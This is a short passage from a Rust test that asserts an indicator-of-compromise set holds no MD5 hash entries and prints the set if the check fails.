    assert!(
        set.of_kind(IocKind::Md5).next().is_none(),
        "{:?}",
        set.to_vec()
    );
}
